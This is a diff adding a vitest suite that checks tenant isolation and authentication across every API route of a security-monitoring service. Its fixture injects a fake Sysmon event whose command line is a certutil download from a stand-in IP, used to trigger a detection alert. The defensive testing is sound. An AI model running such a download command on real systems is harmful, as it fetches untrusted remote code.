@@ -1,0 +1,400 @@
+import { readFileSync } from 'node:fs';
+import { TOTP } from 'otpauth';
+import { afterAll, beforeAll, expect, test, vi } from 'vitest';
+import { z } from 'zod';
+import { type Running, startIronbark } from './running.ts';
+
+/*
+ * Every route of the running system, as its OpenAPI lists them, is called by two who have nothing to do with Acme: a person of
+ * another customer, and a token of the provider's that covers only that customer's tenancy. Nothing of Acme may come back, and
+ * nothing of Acme's may have changed. A route that has no case here fails the test.
+ */
+
+type Caller = { readonly name: string; readonly headers: Record<string, string> };
+type Sent = { readonly status: number; readonly text: string };
+/** Ids of Acme's things. */
+type Acme = {
+  alert: string;
+  revision: number;
+  event: string;
+  exception: string;
+  rule: string;
+  pack: string;
+  user: string;
+  token: string;
+};
+type Case = (acme: Acme) => {
+  readonly path?: Record<string, string>;
+  readonly query?: string;
+  readonly body?: unknown;
+};
+
+/** What only Acme has: its host, user and value names, in whatever answer. */
+const markers = ['ACME-HOST-1', 'acme-sensor', 'Acme Holdings', 'acme-person', 'acme-excepted', 'acme-odce'];
+const day = {
+  from: new Date(Date.now() - 86_400_000).toISOString(),
+  to: new Date(Date.now() + 86_400_000).toISOString(),
+};
+const password = 'a long pass phrase of no use';
+const close = { action: 'close', outcome: 'benign', reason: 'not mine' };
+
+let ironbark: Running;
+let admin: Caller;
+let officer: Caller;
+let narrowed: Caller;
+let acme: Acme;
+
+async function send(caller: Caller | undefined, method: string, path: string, body?: unknown): Promise<Sent> {
+  const stop = new AbortController();
+  const answer = await fetch(`${ironbark.origin}${path}`, {
+    method,
+    signal: stop.signal,
+    headers: { ...caller?.headers, ...(body !== undefined && { 'content-type': 'application/json' }) },
+    ...(body !== undefined && { body: JSON.stringify(body) }),
+  });
+  if (answer.headers.get('content-type')?.startsWith('text/event-stream') !== true)
+    return { status: answer.status, text: await answer.text() };
+  // A stream has no end: what comes in two seconds, while Acme's events come in.
+  const timer = setTimeout(() => stop.abort(), 2000);
+  let text = '';
+  try {
+    for await (const piece of answer.body ?? []) text += Buffer.from(piece).toString();
+  } catch (error) {
+    if (!stop.signal.aborted) throw error;
+  }
+  clearTimeout(timer);
+  return { status: answer.status, text };
+}
+
+async function ask<Schema extends z.ZodType>(
+  schema: Schema,
+  method: string,
+  path: string,
+  body?: unknown,
+): Promise<z.output<Schema>> {
+  const { status, text } = await send(admin, method, path, body);
+  if (status >= 300) throw new Error(`${method} ${path} gave ${status}: ${text}`);
+  return schema.parse(text === '' ? null : JSON.parse(text));
+}
+
+const list = z.object({
+  alerts: z.array(z.object({ id: z.string(), revision: z.number(), state: z.string(), tenancy: z.string() })),
+});
+const anything = z.unknown();
+
+async function acmesAlert(): Promise<{ id: string; revision: number; state: string }> {
+  const first = async () => (await ask(list, 'GET', '/api/alerts?tenancy=acme-odce')).alerts[0];
+  return vi.waitUntil(first, { timeout: 60_000, interval: 500 });
+}
+
+/** One certutil download, and one line that can't be read. */
+async function acmeSends(secret: string): Promise<void> {
+  const { doors } = await ask(
+    z.object({ doors: z.array(z.object({ kind: z.string(), port: z.number() })) }),
+    'GET',
+    '/api/sources/doors',
+  );
+  const port = doors.find((door) => door.kind === 'bulk')?.port;
+  const event = {
+    '@timestamp': new Date().toISOString(),
+    Channel: 'Microsoft-Windows-Sysmon/Operational',
+    SourceName: 'Microsoft-Windows-Sysmon',
+    EventID: 1,
+    Hostname: 'ACME-HOST-1',
+    Image: 'C:\\Windows\\System32\\certutil.exe',
+    CommandLine: 'certutil -urlcache -f http://203.0.113.7/a',
+    User: 'ACME\\acme-person',
+  };
+  const lines = [{ create: {} }, event, { create: {} }].map((line) => JSON.stringify(line));
+  const answer = await fetch(`http://127.0.0.1:${port}/_bulk`, {
+    method: 'POST',
+    headers: {
+      authorization: `ApiKey ${secret}`,
+      'content-type': 'application/x-ndjson',
+      'user-agent': 'test',
+    },
+    body: `${lines.join('\n')}\n"ACME-HOST-1 is no object"\n`,
+  });
+  if (!answer.ok) throw new Error(`the door gave ${answer.status}: ${await answer.text()}`);
+}
+
+/** A person of Zeta's, signed in as a browser is. */
+async function enrolled(link: string): Promise<Caller> {
+  const token = new URL(link, ironbark.origin).searchParams.get('token');
+  const post = async (path: string, body: unknown, headers: Record<string, string> = {}) => {
+    const answer = await fetch(`${ironbark.origin}${path}`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json', ...headers },
+      body: JSON.stringify(body),
+    });
+    const cookie = answer.headers.getSetCookie()[0]?.split(';', 1)[0];
+    return {
+      cookie,
+      body: z
+        .looseObject({ csrfToken: z.string(), secret: z.string().optional() })
+        .parse(await answer.json()),
+    };
+  };
+  const first = await post('/api/first-sign-in', { token, name: 'Zoe', email: 'zoe@zeta.example', password });
+  const code = new TOTP({ secret: first.body.secret ?? '' }).generate();
+  const full = await post(
+    '/api/totp/confirm',
+    { code },
+    { cookie: first.cookie ?? '', 'x-csrf-token': first.body.csrfToken },
+  );
+  return {
+    name: "Zeta's officer",
+    headers: { cookie: full.cookie ?? first.cookie ?? '', 'x-csrf-token': full.body.csrfToken },
+  };
+}
+
+beforeAll(async () => {
+  ironbark = await startIronbark({
+    IRONBARK_BULK_LISTEN: '127.0.0.1:0',
+    IRONBARK_SYSLOG_LISTEN: 'off',
+    IRONBARK_SYSLOG_TLS_LISTEN: 'off',
+  });
+  const local = z
+    .object({ secret: z.string() })
+    .parse(JSON.parse(readFileSync(`${ironbark.data}/run/local.json`, 'utf8')));
+  admin = { name: 'admin', headers: { authorization: `Bearer ${local.secret}` } };
+  await ask(anything, 'POST', '/api/setup/provider', { id: 'sov', name: 'Sovereign' });
+  for (const [id, name] of [
+    ['acme', 'Acme Holdings'],
+    ['zeta', 'Zeta'],
+  ]) {
+    await ask(anything, 'POST', '/api/community/organisations', { id, name, kind: 'customer' });
+    await ask(anything, 'POST', '/api/community/tenancies', { organisation: id, environment: 'odce' });
+  }
+  const { secret } = await ask(z.object({ secret: z.string() }), 'POST', '/api/sources', {
+    id: 'acme-sensor',
+    name: 'acme-sensor',
+    tenancy: 'acme-odce',
+    authentication: { kind: 'token' },
+  });
+  await acmeSends(secret);
+  const alert = await acmesAlert();
+  const detail = await ask(
+    z.object({ ruleId: z.string(), sample: z.array(z.object({ eventUids: z.array(z.string()) })) }),
+    'GET',
+    `/api/alerts/${alert.id}`,
+  );
+  const exception = await ask(z.object({ id: z.string() }), 'POST', '/api/rules/exceptions', {
+    ruleId: detail.ruleId,
+    tenancy: 'acme-odce',
+    field: 'Image',
+    value: 'acme-excepted',
+    reason: 'for this test',
+    expiresAt: day.to,
+  });
+  const rules = await ask(z.object({ packs: z.array(z.object({ id: z.string() })) }), 'GET', '/api/rules');
+  const roles = ['analyst', 'auditor', 'customer-security-officer'];
+  const created = z.object({ user: z.object({ id: z.string() }), link: z.string() });
+  const theirs = await ask(created, 'POST', '/api/users', {
+    name: 'acme-person',
+    email: 'p@acme.example',
+    roles,
+    organisation: 'acme',
+  });
+  const zetas = await ask(created, 'POST', '/api/users', {
+    name: 'Zoe',
+    email: 'zoe@zeta.example',
+    roles,
+    organisation: 'zeta',
+  });
+  officer = await enrolled(zetas.link);
+  const made = z.object({ token: z.object({ id: z.string() }), secret: z.string() });
+  const permissions = [
+    'alert.read',
+    'alert.work',
+    'event.read',
+    'source.read',
+    'source.manage',
+    'rule.read',
+    'community.read',
+    'ledger.read',
+  ];
+  const token = await ask(made, 'POST', '/api/tokens', {
+    name: 'narrowed',
+    permissions,
+    tenancies: ['zeta-odce'],
+    days: 1,
+  });
+  narrowed = {
+    name: "a token of the provider's, for Zeta only",
+    headers: { authorization: `Bearer ${token.secret}` },
+  };
+  acme = {
+    alert: alert.id,
+    revision: alert.revision,
+    event: detail.sample[0]?.eventUids[0] ?? '',
+    exception: exception.id,
+    rule: detail.ruleId,
+    pack: rules.packs[0]?.id ?? '',
+    user: theirs.user.id,
+    token: token.token.id,
+  };
+}, 300_000);
+afterAll(() => ironbark.stop());
+
+const none: Case = () => ({});
+const bounds = { ...day, query: '' };
+
+/** How to ask each route for what is Acme's. */
+const cases: Record<string, Case> = {
+  'GET /healthz': none,
+  'GET /readyz': none,
+  'GET /metrics': none,
+  'GET /api/health': none,
+  'GET /api/ledger': none,
+  'GET /api/ledger/verification': none,
+  'GET /api/setup': none,
+  'POST /api/setup/provider': () => ({ body: { id: 'other', name: 'Other' } }),
+  'POST /api/setup/demo': none,
+  'POST /api/first-sign-in': () => ({ body: { token: 'x', name: 'x', email: 'x@x.example', password } }),
+  'POST /api/totp/confirm': () => ({ body: { code: '000000' } }),
+  'POST /api/session/password': () => ({ body: { email: 'p@acme.example', password, code: '000000' } }),
+  'GET /api/session': none,
+  'POST /api/session/passkey/options': none,
+  'POST /api/session/passkey': () => ({ body: {} }),
+  'POST /api/passkeys/options': none,
+  'POST /api/passkeys': () => ({ body: {} }),
+  'GET /api/users': none,
+  'POST /api/users': () => ({
+    body: { name: 'x', email: 'x@x.example', roles: ['analyst'], organisation: 'acme' },
+  }),
+  'PATCH /api/users/{id}': ({ user }) => ({ path: { id: user }, body: { locked: true } }),
+  'POST /api/users/{id}/link': ({ user }) => ({ path: { id: user } }),
+  'GET /api/tokens': none,
+  'POST /api/tokens': () => ({ body: { name: 'x', permissions: ['alert.read'], tenancies: ['acme-odce'] } }),
+  'DELETE /api/tokens/{id}': () => ({ path: { id: 'nothing' } }),
+  'GET /api/community': none,
+  'POST /api/community/environments': () => ({ body: { id: 'x', name: 'x', marking: 'OFFICIAL' } }),
+  'POST /api/community/organisations': () => ({ body: { id: 'x', name: 'x', kind: 'customer' } }),
+  'POST /api/community/tenancies': () => ({ body: { organisation: 'acme', environment: 'pdce' } }),
+  'GET /api/sources': none,
+  'POST /api/sources': () => ({
+    body: { id: 'x', name: 'x', tenancy: 'acme-odce', authentication: { kind: 'token' } },
+  }),
+  'GET /api/sources/doors': none,
+  'GET /api/sources/{id}': () => ({ path: { id: 'acme-sensor' } }),
+  'PATCH /api/sources/{id}': () => ({ path: { id: 'acme-sensor' }, body: { state: 'paused' } }),
+  'POST /api/sources/{id}/secret': () => ({ path: { id: 'acme-sensor' } }),
+  'GET /api/sources/{id}/rejected': () => ({ path: { id: 'acme-sensor' } }),
+  'POST /api/sources/{id}/rejected/replay': () => ({ path: { id: 'acme-sensor' }, body: { ids: [] } }),
+  'GET /api/alerts': () => ({ query: '?tenancy=acme-odce' }),
+  'GET /api/alerts/histogram': () => ({ query: `?from=${day.from}&to=${day.to}&tenancy=acme-odce` }),
+  'GET /api/alerts/assignees': none,
+  'GET /api/alerts/stream': none,
+  'GET /api/alerts/reads': none,
+  'GET /api/alerts/{id}': ({ alert }) => ({ path: { id: alert } }),
+  'POST /api/alerts/actions': ({ alert, revision }) => ({
+    body: { select: { alerts: [{ id: alert, revision }] }, do: close },
+  }),
+  'POST /api/alerts/undo': () => ({ body: { undo: 'x' } }),
+  'POST /api/events/search': () => ({ body: { ...bounds, query: 'ACME*' } }),
+  'POST /api/events/histogram': () => ({ body: bounds }),
+  'POST /api/events/facets': () => ({
+    body: { ...bounds, fields: ['device_hostname', 'tenancy_id', 'User'] },
+  }),
+  'GET /api/events/fields': none,
+  'GET /api/events/tail': none,
+  'GET /api/events/{uid}': ({ event }) => ({ path: { uid: event } }),
+  'GET /api/rules': none,
+  'GET /api/rules/exceptions': none,
+  'POST /api/rules/exceptions': ({ rule }) => ({
+    body: {
+      ruleId: rule,
+      tenancy: 'acme-odce',
+      field: 'Image',
+      value: 'x',
+      reason: 'not mine',
+      expiresAt: day.to,
+    },
+  }),
+  'DELETE /api/rules/exceptions/{id}': ({ exception }) => ({ path: { id: exception } }),
+  'POST /api/rules/packs': () => ({ query: '?name=x&version=1' }),
+  'PATCH /api/rules/packs/{id}': ({ pack }) => ({ path: { id: pack }, body: { active: false } }),
+  'GET /api/rules/{id}': ({ rule }) => ({ path: { id: rule } }),
+  'PATCH /api/rules/{id}': ({ rule }) => ({ path: { id: rule }, body: { enabled: false } }),
+};
+
+/** These end the caller's own session: last. */
+const last = ['DELETE /api/session'];
+
+async function routes(): Promise<string[]> {
+  const shape = z.object({ paths: z.record(z.string(), z.record(z.string(), z.unknown())) });
+  const { paths } = await ask(shape, 'GET', '/api/openapi.json');
+  return Object.entries(paths).flatMap(([path, methods]) =>
+    Object.keys(methods).map((method) => `${method.toUpperCase()} ${path}`),
+  );
+}
+
+test('every route has a case here, and every case is a route', async () => {
+  expect((await routes()).sort()).toEqual([...Object.keys(cases), ...last].sort());
+});
+
+test('Acme itself is there to be seen by whom it concerns', async () => {
+  const seen = await send(admin, 'POST', '/api/events/search', { ...bounds, query: 'ACME*' });
+  expect(seen.text).toContain('ACME-HOST-1');
+  const mine = await send(officer, 'GET', '/api/session');
+  expect(mine).toMatchObject({ status: 200, text: expect.stringContaining('zeta-odce') });
+  expect((await send(narrowed, 'GET', '/api/alerts')).status).toBe(200);
+});
+
+test('nothing of Acme comes back to who has nothing to do with it, by any route, and nothing of it is changed', async () => {
+  const leaks: string[] = [];
+  const broken: string[] = [];
+  for (const caller of [officer, narrowed]) {
+    for (const [route, prepare] of Object.entries(cases)) {
+      const [method = '', pattern = ''] = route.split(' ');
+      const { path = {}, query = '', body } = prepare(acme);
+      const url = pattern.replaceAll(/\{(\w+)\}/g, (_, name: string) => encodeURIComponent(path[name] ?? ''));
+      const { status, text } = await send(caller, method, url + query, body);
+      // What was asked with is echoed in the problem; the answer holds nothing else of Acme's.
+      const asked = `${url}${query}${JSON.stringify(body ?? '')}`;
+      const found = markers.filter(
+        (marker) => text.includes(marker) && !(status >= 400 && asked.includes(marker)),
+      );
+      if (found.length > 0) leaks.push(`${caller.name}: ${route} gave ${status} with ${found.join(', ')}`);
+      if (status >= 500) broken.push(`${caller.name}: ${route} gave ${status}: ${text.slice(0, 200)}`);
+    }
+  }
+  expect({ leaks, broken }).toEqual({ leaks: [], broken: [] });
+
+  expect(
+    await ask(z.object({ state: z.string(), revision: z.number() }), 'GET', `/api/alerts/${acme.alert}`),
+  ).toMatchObject({ state: 'new', revision: acme.revision });
+  expect(await ask(anything, 'GET', '/api/sources/acme-sensor')).toMatchObject({ state: 'active' });
+  expect(await ask(anything, 'GET', `/api/rules/exceptions?rule=${acme.rule}`)).toMatchObject({
+    exceptions: [{ id: acme.exception }],
+  });
+  expect(await ask(anything, 'GET', `/api/rules/${acme.rule}`)).toMatchObject({ enabled: true });
+  const { users } = await ask(
+    z.object({ users: z.array(z.object({ id: z.string(), locked: z.boolean() })) }),
+    'GET',
+    '/api/users',
+  );
+  expect(users.find((user) => user.id === acme.user)?.locked).toBe(false);
+}, 180_000);
+
+test('who is nobody gets nothing but what is public', async () => {
+  const open: string[] = [];
+  for (const [route, prepare] of Object.entries(cases)) {
+    const [method = '', pattern = ''] = route.split(' ');
+    const { path = {}, query = '', body } = prepare(acme);
+    const url = pattern.replaceAll(/\{(\w+)\}/g, (_, name: string) => encodeURIComponent(path[name] ?? ''));
+    const { status } = await send(undefined, method, url + query, body);
+    // A sign-in that fails is a 401 too: it is open to try.
+    if (status !== 401 || route === 'POST /api/session/password') open.push(route);
+  }
+  expect(open.sort()).toEqual([
+    'GET /api/setup',
+    'GET /healthz',
+    'GET /readyz',
+    'POST /api/first-sign-in',
+    'POST /api/session/passkey',
+    'POST /api/session/passkey/options',
+    'POST /api/session/password',
+  ]);
+}, 60_000);
